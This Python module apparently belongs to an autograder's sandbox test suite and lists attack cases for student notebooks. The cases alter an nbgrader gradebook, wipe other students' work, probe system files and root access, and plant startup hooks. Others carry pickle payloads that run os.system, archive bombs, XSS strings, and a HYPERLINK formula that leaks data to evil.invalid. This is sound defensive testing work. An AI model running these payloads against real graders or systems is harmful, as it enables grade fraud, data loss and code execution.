"""To change marks, files and minds of others."""

# The bodies are text for a student's cell: their free names are the cell's, and bad style is theirs.
# ruff: noqa: B023, E731, F821, F841, SIM115

import copy
import json
import os

from tests.isolation.attacks import NOTHING, Batch, cell_of, replace
from tests.isolation.attacks.lesson import LESSON

batch = Batch("to change")

# --- the gradebook, and the files of others -------------------------------------------------------


@batch.code(won=True)
def points_for_the_whole_class():
    """50 extra points for everyone in the gradebook."""
    import sqlite3

    path = KNOWN["root"] + "/gradebook.db"
    if os.path.exists(path):
        base = sqlite3.connect(path, timeout=2)
        base.execute("update grade set extra_credit = 50, manual_score = 50")
        base.commit()
        base.close()


@batch.code(won=True)
def points_by_the_library():
    """Marks for itself, by nbgrader's own interface."""
    if os.path.exists(KNOWN["root"] + "/gradebook.db"):
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{KNOWN['root']}/gradebook.db", "") as book:
            book.update_or_create_student("an invented one", last_name="Invented")
            for student in book.students:
                for submission in student.submissions:
                    for notebook in submission.notebooks:
                        for grade in notebook.grades:
                            grade.manual_score = 40
            book.db.commit()


@batch.code()
def gradebook_held():
    """The gradebook stays locked by a child that outlives the cell."""
    import subprocess

    program = (
        "import sqlite3, sys, time\n"
        "base = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
        "base.execute('begin exclusive')\n"
        "time.sleep(20)"
    )
    path = KNOWN["root"] + "/gradebook.db"
    if os.path.exists(path):
        subprocess.Popen(
            [sys.executable, "-c", program, path, KNOWN["marker"]], start_new_session=True
        )


@batch.code(won=True)
def marks_written_later():
    """A child waits for grades.csv, and writes its own marks into it."""
    import subprocess

    program = (
        "import sys, time\n"
        "for second in range(40):\n"
        "    time.sleep(.5)\n"
        "    try:\n"
        "        text = open(sys.argv[1]).read()\n"
        "        open(sys.argv[1], 'w').write(text.replace(',0,2,failed', ',2,2,passed'))\n"
        "    except OSError: pass"
    )
    path = KNOWN["root"] + "/grades.csv"
    subprocess.Popen(
        [sys.executable, "-c", program, path, KNOWN["marker"]],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


@batch.code(won=True)
def neighbours_work_spoilt():
    """Each submission that can be reached is emptied, and its graded copy too."""
    for top in ("submitted", "autograded", "feedback"):
        for where, _, names in os.walk(os.path.join(KNOWN["root"], top)):
            for name in names:
                quietly(lambda: open(os.path.join(where, name), "w").close())


@batch.code(won=True)
def neighbours_work_taken():
    """Its own folder and another student's change names."""
    submitted = os.path.join(KNOWN["root"], "submitted")
    for ours, theirs in (("neighbours-work-taken", "zz-full"), ("neighbours-work-taken", "m-full")):
        for top in ("submitted", "autograded"):
            a, b = (os.path.join(KNOWN["root"], top, name) for name in (ours, theirs))
            quietly(os.rename, a, a + "~")
            quietly(os.rename, b, a)
            quietly(os.rename, a + "~", b)


@batch.code()
def another_name():
    """It says everywhere that it is somebody else."""
    for name in ("USER", "LOGNAME", "NB_USER", "JUPYTERHUB_USER", "STUDENT", "NBGRADER_STUDENT"):
        os.environ[name] = "0-full"
    quietly(os.setuid, 65534)
    print("student: 0-full")
    print("0-full,01_target,test_scale,0,2,failed,spoilt")


# --- the house ------------------------------------------------------------------------------------


@batch.code(won=True)
def source_replaced():
    """The lesson's source: tests without asserts, from now on for everybody."""
    for where, _, names in os.walk(KNOWN["source"]):
        for name in names:
            path = os.path.join(where, name)
            text = quietly(lambda: open(path).read())
            if isinstance(text, str):
                quietly(lambda: open(path, "w").write(text.replace("assert ", "None and ")))


@batch.code(harmful=True)
def packages_changed():
    """A new module in utils, course, its lessons, and each folder that Python imports from."""
    folders = [
        KNOWN["repo"],
        *(f"{KNOWN['repo']}/{name}" for name in ("utils", "course", "source")),
    ]
    for folder in [*folders, *sys.path, os.path.dirname(np.__file__), os.path.dirname(os.__file__)]:
        path = os.path.join(folder, KNOWN["marker"] + ".py")
        quietly(lambda: open(path, "w").write("raise SystemExit\n"))
    for folder in sys.path:
        path = os.path.join(folder, KNOWN["marker"] + ".pth")
        quietly(lambda: open(path, "w").write("import os\n"))


@batch.code(harmful=True)
def modules_opened_for_writing():
    """Modules, their compiled forms, the data of the lessons and Python itself can be written to."""
    import importlib.util

    paths = [
        np.__file__,
        importlib.util.cache_from_source(np.__file__),
        sys.executable,
        "/proc/self/exe",
    ]
    for name in ("utils", "course", "msgpack", "nbgrader"):
        spec = quietly(importlib.util.find_spec, name)
        if spec is not None and getattr(spec, "origin", None):
            paths.append(spec.origin)
            for where, _, names in os.walk(os.path.dirname(spec.origin)):
                paths += [os.path.join(where, each) for each in names[:5]]
    for path in paths:
        handle = quietly(os.open, path, os.O_RDWR)
        if isinstance(handle, int):
            breach(f"{path} can be written to")
            os.close(handle)


@batch.code(harmful=True)
def system_opened_for_writing():
    """The knobs and devices of the machine: core_pattern, sysrq, cgroups, disks, memory."""
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/fs/cgroup/cgroup.procs",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/vda",
        "/dev/fuse",
        "/dev/kvm",
        "/etc/passwd",
        "/etc/ld.so.preload",
        "/etc/resolv.conf",
        "/proc/1/oom_score_adj" if not in_sandbox() else "/none",
    ):
        handle = quietly(os.open, path, os.O_WRONLY)
        if isinstance(handle, int):
            breach(f"{path} can be written to")
            os.close(handle)


@batch.code(harmful=True)
def mounts_changed():
    """New namespaces, mounts, device nodes and a new root, to get at the file system behind."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("mnt", exist_ok=True)
    remount = libc.mount(b"none", b"/", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, writable
    user = libc.unshare(0x10000000 | 0x00020000)  # a user and a mount namespace of its own
    bind = libc.mount(b"/", b"mnt", None, 4096, None)
    again = libc.mount(b"none", b"/", None, 32 | 4096, None)
    proc = libc.mount(b"proc", b"mnt", b"proc", 0, None)
    for device, number in (("disk", os.makedev(8, 0)), ("disk2", os.makedev(254, 0))):
        quietly(os.mknod, device, 0o60666, number)
        if isinstance(quietly(lambda: open(device, "rb").read(1)), bytes):
            breach("a disk can be read")
    quietly(os.chroot, "/proc/1/root")
    for folder in (KNOWN["repo"], KNOWN["source"], "/etc", "/usr"):
        path = os.path.join(folder, KNOWN["marker"] + ".mounted")
        if quietly(lambda: open(path, "w").write("x")) == 1:
            breach(f"{folder} can be written to: {remount=} {user=} {bind=} {again=} {proc=}")


@batch.code(harmful=True)
def privileges_gained():
    """It makes itself root, or keeps what it has of it."""
    import ctypes

    libc = ctypes.CDLL(None)
    quietly(os.setuid, 0)
    status = open("/proc/self/status").read()
    for line in status.splitlines():
        if line.startswith(("CapEff", "CapPrm", "CapAmb")) and int(line.split()[1], 16):
            breach(f"it has capabilities: {line}")
    for name, call in (
        ("reboot", lambda: libc.reboot(0)),
        ("swapoff", lambda: libc.swapoff(b"/x")),
    ):
        if call() == 0:
            breach(name)
    if quietly(os.sethostname if hasattr(os, "sethostname") else list, b"attack") is None:
        pass
    if quietly(__import__("socket").sethostname, "attack") is None and not in_sandbox():
        breach("the host's name")


@batch.code(harmful=True)
def files_behind_other_processes():
    """The file system as other processes see it, and their open files, written to by /proc."""
    for number in os.listdir("/proc"):
        if number.isdigit():
            for folder in (f"/proc/{number}/root{KNOWN['root']}", f"/proc/{number}/cwd"):
                quietly(lambda: open(f"{folder}/{KNOWN['marker']}.proc", "w").write("x"))
            if int(number) != os.getpid():
                memory = quietly(os.open, f"/proc/{number}/mem", os.O_RDWR)
                if isinstance(memory, int):
                    owner = quietly(os.readlink, f"/proc/{number}/exe")
                    breach(f"memory of process {number} ({owner}) can be written to")


@batch.code(won=True)
def start_files():
    """Whatever Python, IPython, Jupyter, matplotlib or a shell read when they start."""
    home = os.path.expanduser("~")
    code = f"open({KNOWN['root']!r} + '/' + {KNOWN['marker']!r} + '.started', 'w')\n"
    for place in {home, KNOWN["home"], os.environ.get("IPYTHONDIR", "."), KNOWN["ipython"]}:
        for name in (
            ".ipython/profile_default/startup/00.py",
            "profile_default/startup/00.py",
            "profile_default/ipython_config.py",
            ".jupyter/jupyter_config.py",
            ".jupyter/nbgrader_config.py",
            f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py",
            f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/x.pth",
            ".pythonrc.py",
        ):
            path = os.path.join(place, name)
            quietly(os.makedirs, os.path.dirname(path), exist_ok=True)
            quietly(lambda: open(path, "w").write(f"import os; {code}"))
    os.environ["PYTHONSTARTUP"] = os.path.join(home, ".pythonrc.py")
    os.environ["PYTHONPATH"] = home
    os.environ["LD_PRELOAD"] = os.path.join(home, "x.so")


# --- what the grader is handed --------------------------------------------------------------------


@batch.code(status="failed error")
def pickle_with_an_errand():
    """An answer whose unpickling runs a command."""

    class Errand:
        def __reduce__(self):
            return os.system, (f"touch {KNOWN['root']}/{KNOWN['marker']}.pickled",)

        __reduce_ex__ = lambda self, version: self.__reduce__()
        __getstate__ = lambda self: self
        __deepcopy__ = __copy__ = lambda self, *args: self

    def scale(x, factor):
        return Errand()


@batch.code("rank", status="failed error")
def pickle_inside_arrays():
    """The same inside an array of objects, a structured array, a data frame and a dictionary."""
    import itertools

    class Errand:
        def __reduce__(self):
            return os.system, (f"touch {KNOWN['root']}/{KNOWN['marker']}.pickled",)

    def frame():
        import pandas as pd

        return pd.DataFrame({"a": [Errand()], Errand(): [1]})

    made = itertools.cycle(
        [
            lambda: np.array([Errand()] * 3, dtype=object),
            lambda: {"a": Errand()},
            frame,
            lambda: np.array([(1, Errand())], dtype=[("a", int), ("b", object)]),
        ]
    )

    def rank(scores):
        return next(made)()


@batch.code(status="error failed")
def pickle_inside_an_exception():
    """The same inside an exception, its arguments, notes, cause and context."""

    class Errand(Exception):
        def __reduce__(self):
            return os.system, (f"touch {KNOWN['root']}/{KNOWN['marker']}.pickled",)

        __reduce_ex__ = lambda self, version: self.__reduce__()

    def scale(x, factor):
        error = Errand(Errand(), {"a": Errand()})
        error.__notes__ = [Errand()]
        error.__cause__ = error.__context__ = Errand()
        raise error


@batch.code(status="failed error")
def file_formats_with_an_errand():
    """Files that some tool may open for it: pickles, joblib, .npy, YAML, HDF names, notebooks."""
    import pickle

    class Errand:
        def __reduce__(self):
            return os.system, (f"touch {KNOWN['root']}/{KNOWN['marker']}.pickled",)

    for name in ("state.pkl", "result.pickle", "model.joblib", "cache.db", "out.npy", "scale"):
        with open(name, "wb") as file:
            pickle.dump(Errand(), file)

    def scale(x, factor):
        return open("out.npy", "rb").read()


@batch.file()
def links_in_the_scratch(notebook, folder, known):
    """The cell leaves links called like what the grader will write or read next."""
    text = f"""
import os
for target in ({known["file"]!r}, {known["root"]!r} + "/grades.csv", "/dev/zero"):
    for name in ("{LESSON}.ipynb", "result.json", "timestamp.txt", "..", "x"):
        try:
            os.path.lexists(name) and os.remove(name)
            os.symlink(target, name)
        except OSError:
            pass
os.mkfifo("pipe")
"""
    cell = cell_of(notebook, "scale")
    cell["source"] += "\n" + text


@batch.file()
def files_of_every_kind(notebook, folder, known):
    """A pipe, a socket, a loop of links, strange names, a file of holes, a tree without end."""
    import socket

    os.mkfifo(folder / "pipe")
    os.mkfifo(folder / "timestamp.txt")
    os.symlink("loop", folder / "loop")
    os.symlink(".", folder / "again")
    os.symlink("/dev/zero", folder / "zero.txt")
    (folder / "new\nline<b>.txt").write_text("x")
    with open(os.fsencode(folder) + b"/\xff\xfe.txt", "wb") as file:
        file.write(b"\xff")
    with open(folder / "holes.bin", "wb") as file:
        file.truncate(2**34)
    before = os.getcwd()
    try:
        os.chdir(folder)
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("socket")
        for _ in range(300):
            os.mkdir("deep")
            os.chdir("deep")
    finally:
        os.chdir(before)


@batch.file()
def thousands_of_files(notebook, folder, known):
    """Several thousand files lie beside the notebook."""
    for number in range(4000):
        (folder / f"{number}.txt").touch()


@batch.file()
def bombs_in_archives(notebook, folder, known):
    """Archives that grow a thousandfold, in case something unpacks them."""
    import gzip
    import zipfile

    zeros = bytes(20_000_000)
    with zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../escaped.txt", "x")
        for number in range(3):
            archive.writestr(f"{number}.bin", zeros)
    (folder / f"{LESSON}.ipynb.gz").write_bytes(gzip.compress(zeros))


@batch.file()
def settings_beside_the_notebook(notebook, folder, known):
    """Configuration files that tools look for where they run."""
    errand = f"open({known['root']!r} + '/' + {known['marker']!r} + '.configured', 'w')\n"
    for name in (
        "nbgrader_config.py",
        "jupyter_config.py",
        "jupyter_nbconvert_config.py",
        "ipython_config.py",
        "ipython_kernel_config.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "setup.py",
        "matplotlibrc",
        ".pdbrc",
    ):
        (folder / name).write_text(errand)
    (folder / "kernel.json").write_text(json.dumps({"argv": ["touch", known["marker"]]}))


@batch.file(status="missing", says="larger than", everywhere=True)
def notebook_too_large(notebook, folder, known):
    """The notebook is a file of 64 GB of holes."""
    with open(folder / f"{LESSON}.ipynb", "wb") as file:
        file.truncate(2**36)
    return NOTHING


@batch.file(status="missing", says="not a plain file", everywhere=True)
def notebook_is_a_pipe(notebook, folder, known):
    """The notebook is a pipe that nobody writes to."""
    os.mkfifo(folder / f"{LESSON}.ipynb")
    return NOTHING


@batch.file(status="missing", says="symbolic link", everywhere=True)
def notebook_is_a_device(notebook, folder, known):
    """The notebook is a link to /dev/zero."""
    os.symlink("/dev/zero", folder / f"{LESSON}.ipynb")
    return NOTHING


@batch.file(status="missing", says="JSON|notebook", everywhere=True)
def json_without_end(notebook, folder, known):
    """Brackets within brackets, a hundred thousand deep."""
    return b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@batch.file(status="missing", says="JSON|notebook|number", everywhere=True)
def json_with_a_huge_number(notebook, folder, known):
    """A number with ten million digits, which takes minutes to read."""
    return b'{"nbformat": 4, "nbformat_minor": ' + b"9" * 10_000_000 + b', "cells": []}'


@batch.file()
def json_of_another_kind(notebook, folder, known):
    """NaN, infinities, names twice, lone surrogates, a byte order mark."""
    text = json.dumps(notebook)
    odd = '{"nbformat": 3, "metadata": {"a": NaN, "b": -Infinity, "c": "\\ud800", "c": 1e999}, '
    return b"\xef\xbb\xbf" + (odd + '"cells": 3, ' + text[1:]).encode()


# --- the notebook's metadata ----------------------------------------------------------------------


@batch.file()
def points_in_the_metadata(notebook, folder, known):
    """100 points for each test, unlocked, graded under schema version 99."""
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(
                points=100, locked=False, schema_version=99, checksum="0", task=True
            )


@batch.file(notes="test_scale|test_draw")
def tests_emptied(notebook, folder, known):
    """Each test cell holds nothing but its points as a number; two are deleted, one is text."""
    for cell in notebook["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        if name.startswith("test_"):
            cell["source"] = "4.0"
    notebook["cells"].remove(cell_of(notebook, "test_scale"))
    cell_of(notebook, "test_draw")["cell_type"] = "markdown"


@batch.file()
def tests_skipped(notebook, folder, known):
    """Tags that tell tools not to run a cell, or not to mind its errors."""
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "setup"]
        cell["metadata"]["deletable"] = True


@batch.file()
def tests_answered_beforehand(notebook, folder, known):
    """Outputs are in the test cells already: full points, no error, many executions."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 99
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "execution_count": 99,
                    "metadata": {},
                    "data": {"text/plain": "4.0"},
                }
            ]
    notebook["metadata"].update(fingerprint="0" * 64, mended=[], refused=None)


@batch.file(notes="second copy")
def tests_twice(notebook, folder, known):
    """Each test is there again, empty, first and last."""
    tests = [
        {**copy.deepcopy(cell), "source": "pass"}
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("test_")
    ]
    notebook["cells"] = copy.deepcopy(tests) + notebook["cells"] + tests


@batch.file(notes="reordered")
def tests_first(notebook, folder, known):
    """The cells are turned round, and the setup comes last."""
    notebook["cells"].reverse()


@batch.file(status="failed error", notes="more than once|second copy|none of the lesson's")
def ids_exchanged(notebook, folder, known):
    """A solution cell carries the name of the test, and the test another's; paths for names."""
    cell_of(notebook, "scale")["metadata"]["nbgrader"]["grade_id"] = "test_scale"
    notebook["cells"].append(copy.deepcopy(cell_of(notebook, "draw")))
    cell_of(notebook, "test_best_k")["metadata"]["nbgrader"]["grade_id"] = "../../0-full/x"


@batch.file()
def metadata_of_another_shape(notebook, folder, known):
    """Lists for dictionaries, numbers for texts, and names a megabyte long."""
    for cell in notebook["cells"]:
        nbgrader = cell["metadata"].get("nbgrader", {})
        nbgrader.update(points=float("inf"), schema_version=[], task={"a": 1}, comment="x" * 10**6)
        cell["id"] = 7
    notebook["cells"] += [
        7,
        None,
        [],
        {"cell_type": "code", "metadata": {"nbgrader": [1]}, "source": {"a": 1}},
        {"cell_type": "no" * 1000, "metadata": 3, "source": ["pass", 7]},
        {
            "cell_type": "code",
            "source": 7,
            "outputs": 7,
            "metadata": {"nbgrader": {"grade_id": {}}},
        },
    ]
    notebook["metadata"]["nbgrader"] = [[[[]]]]
    notebook["nbformat_minor"] = 99


@batch.file()
def another_kernel(notebook, folder, known):
    """A kernelspec of another language, of a path, of a command."""
    notebook["metadata"]["kernelspec"] = {
        "name": "../../bash",
        "display_name": "<script>alert(4711)</script>",
        "language": "bash",
        "argv": ["touch", f"{known['root']}/{known['marker']}.kernel"],
        "env": {"LD_PRELOAD": "x.so"},
    }
    notebook["metadata"]["language_info"] = {"name": "bash", "file_extension": "/../../x"}


@batch.file()
def text_answer_becomes_a_test(notebook, folder, known):
    """The question that a person marks becomes a code cell that gives itself its points."""
    cell = cell_of(notebook, "explain_choice")
    cell.update(cell_type="code", source="3.0", outputs=[], execution_count=None)
    cell["metadata"]["nbgrader"].update(solution=False, locked=True, points=3)


# --- minds: what the instructor's browser shows ---------------------------------------------------


@batch.code()
def scripts_in_outputs():
    """Script in HTML, SVG, Markdown, LaTeX, JavaScript, and in the names of types."""
    from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

    bad = "<script>alert(4711)</script><img src=x onerror=alert(4711)><svg onload=alert(4711)>"
    bad += "<a href='javascript:alert(4711)'>a</a><iframe srcdoc='&lt;script&gt;alert(4711)&lt;/script&gt;'>"
    bad += "<details open ontoggle=alert(4711)><math><mtext></form><form><mglyph><style></math>"
    bad += (
        "<meta http-equiv=refresh content='0;url=javascript:alert(4711)'><base href='//x.invalid'>"
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(4711)'><script>alert(4711)</script><foreignObject>{bad}</foreignObject></svg>"
    for thing in (HTML(bad), Markdown(bad), Latex(f"$$ {bad} $$")):
        quietly(display, thing)
    quietly(lambda: display(SVG(svg)))
    quietly(lambda: display(Javascript("alert(4711)")))
    for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", bad):
        quietly(lambda: display({kind: svg + bad}, raw=True))
    quietly(lambda: display({"image/png": f"'><script>alert(4711)</script>{bad}"}, raw=True))
    display({"application/vnd.jupyter.widget-view+json": {"model_id": bad}}, raw=True)
    print(bad)
    print(f"\x1b[31m{bad}\x1b]8;;javascript:alert(4711)\x07", file=sys.stderr)


@batch.code(status="error")
def scripts_in_errors():
    """Script in an error's name and text, with colour codes and line ends."""

    def scale(x, factor):
        bad = "<script>alert(4711)</script><img src=x onerror=alert(4711)>"
        raise type(bad, (Exception,), {})(
            f"\x1b[31m</pre>{bad}\r\n=cmd|' /C calc'!A0\x00\x07\u202e"
        )


@batch.file()
def scripts_in_texts(notebook, folder, known):
    """Script in the text answer, a heading, a raw cell, an attachment, the notebook's title."""
    bad = "<script>alert(4711)</script><img src=x onerror=alert(4711)>[a](javascript:alert(4711))"
    replace(notebook, "explain_choice", f"# {bad}\n\n```{{raw}} html\n{bad}\n```\n\n{bad}")
    notebook["metadata"]["title"] = notebook["metadata"]["authors"] = bad
    notebook["cells"] += [
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": bad, "id": "raw"},
        {
            "cell_type": "markdown",
            "metadata": {"nbgrader": {"grade_id": bad}},
            "id": "bad",
            "source": f"![a](attachment:x.svg)\n\n{bad}",
            "attachments": {"x.svg": {"image/svg+xml": bad}, bad: {"image/png": "'>" + bad}},
        },
    ]


@batch.code(status="failed error", says="scale|FormulaError")
def formula_for_a_spreadsheet():
    """A message that a spreadsheet would take for a formula, and that breaks the lines of grades.csv."""

    class FormulaError(Exception):
        pass

    def scale(x, factor):
        raise FormulaError('=1+1","x\r\n0-full,01_target,test_scale,0,2,failed,"')


@batch.code(status="failed", says="^'=HYPERLINK")
def formula_as_the_test_s_own_message():
    """An error of the kind that tests raise, with a formula for a text."""

    def scale(x, factor):
        raise AssertionError('=HYPERLINK("http://evil.invalid/?" & A1, "right")')
